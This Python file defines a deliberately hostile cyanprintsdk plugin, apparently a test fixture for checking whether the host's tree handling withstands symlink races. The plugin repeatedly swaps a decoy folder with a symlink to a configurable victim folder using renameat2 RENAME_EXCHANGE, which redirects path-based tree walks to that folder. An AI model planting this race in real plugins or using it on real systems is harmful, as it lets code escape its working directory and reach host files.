"""swap_plugin: a hostile cyanprintsdk plugin. In the tree it is given it makes a folder
``sub`` (with ``config.files`` files) and a symlink ``lnk -> config.victim`` (a host folder),
then returns at once, leaving a thread that swaps the two with renameat2(RENAME_EXCHANGE) for
``config.seconds`` seconds: whoever walks the tree by path meanwhile is led to the victim."""

import ctypes
import os
import threading
import time

from cyanprintsdk.domain.core.cyan_script_model import CyanPluginInput
from cyanprintsdk.domain.plugin.output import PluginOutput
from cyanprintsdk.main import start_plugin_with_fn

_AT_FDCWD = -100
_RENAME_EXCHANGE = 2
_libc = ctypes.CDLL(None, use_errno=True)


def _swap_forever(a: bytes, b: bytes, until: float) -> None:
    while time.monotonic() < until:
        _libc.renameat2(_AT_FDCWD, a, _AT_FDCWD, b, _RENAME_EXCHANGE)


async def plug(i: CyanPluginInput) -> PluginOutput:
    config = i.config or {}
    sub = os.path.join(i.directory, "sub")
    lnk = os.path.join(i.directory, "lnk")
    os.makedirs(sub, exist_ok=True)
    for n in range(int(config.get("files", 40))):
        with open(os.path.join(sub, f"f{n}"), "w") as fh:
            fh.write("decoy\n")
    os.symlink(str(config["victim"]), lnk)
    until = time.monotonic() + float(config.get("seconds", 30))
    threading.Thread(target=_swap_forever, args=(sub.encode(), lnk.encode(), until),
                     daemon=True).start()
    return PluginOutput(directory=i.directory)


if __name__ == "__main__":
    start_plugin_with_fn(plug)
